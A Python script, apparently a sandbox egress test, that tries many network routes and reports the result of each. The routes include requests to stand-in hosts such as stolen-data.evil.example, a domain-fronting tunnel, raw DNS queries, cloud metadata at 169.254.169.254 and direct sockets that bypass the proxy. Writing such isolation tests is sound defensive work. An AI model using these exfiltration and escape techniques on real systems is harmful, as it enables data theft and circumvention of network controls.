"""Runs inside of a session: tries its ways out as ordinary programs do, prints what each one got. Python alone."""

# ruff: noqa: BLE001
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import urllib.request

AUTHORITY = sys.argv[1]


def web(url):
    """As any program that knows of HTTPS_PROXY."""
    context = ssl.create_default_context(cafile=AUTHORITY)
    handlers = [urllib.request.ProxyHandler(), urllib.request.HTTPSHandler(context=context)]
    return lambda: urllib.request.build_opener(*handlers).open(url, timeout=10).read().decode()


def direct(host, port):
    def connect():
        socket.create_connection((host, port), 3).close()
        return "connected, hello"

    return connect


def datagram(host, port):
    """A question to a resolver, by hand: is there an answer?"""

    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04evil\x07example\0\0\x01\0\x01", (host, port))
            return s.recv(512).hex() + " hello"

    return ask


def fronted():
    """A tunnel to an allowed name, TLS to another."""
    proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
    raw = socket.create_connection((proxy[0], int(proxy[1])), 5)
    raw.sendall(b"CONNECT good.example:443 HTTP/1.1\r\n\r\n")
    raw.recv(4096)
    context = ssl.create_default_context(cafile=AUTHORITY)
    tls = context.wrap_socket(raw, server_hostname="evil.example")
    tls.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    return tls.recv(4096).decode() + " hello"


def curl():
    """The program that everybody uses, where it is installed."""
    if not shutil.which("curl"):
        return ""
    call = ["curl", "-sS", "--max-time", "10", "--cacert", AUTHORITY, "https://good.example/"]
    return subprocess.run(call, capture_output=True, text=True, check=False).stdout


WAYS = {
    "https": web("https://good.example/"),
    "http": web("http://good.example/page"),
    "declared": web("http://git.lan:3000/"),
    "curl": curl,
    "another name": web("https://evil.example/"),
    "data in a name": web("http://stolen-data.evil.example/"),
    "another port": web("http://good.example:22/"),
    "metadata by name": web("http://meta.example/latest/meta-data/"),
    "metadata by address": web("http://169.254.169.254/latest/meta-data/"),
    "private by address": web("http://10.0.0.5/"),
    "the host": web("http://172.17.0.1/"),
    "fronted": fronted,
    "direct to a public address": direct("93.184.216.34", 443),
    "direct to metadata": direct("169.254.169.254", 80),
    "direct to the host": direct("172.17.0.1", 80),
    "a resolver": datagram("1.1.1.1", 53),
    "the host's resolver": datagram("172.17.0.1", 53),
    "a name without the proxy": lambda: " ".join(map(str, socket.getaddrinfo("evil.example", 443))) + " hello",
}

got = {}
for name, way in WAYS.items():
    try:
        got[name] = way()
    except Exception as e:
        got[name] = f"{type(e).__name__}: {e}"[:200]
print(json.dumps(got))
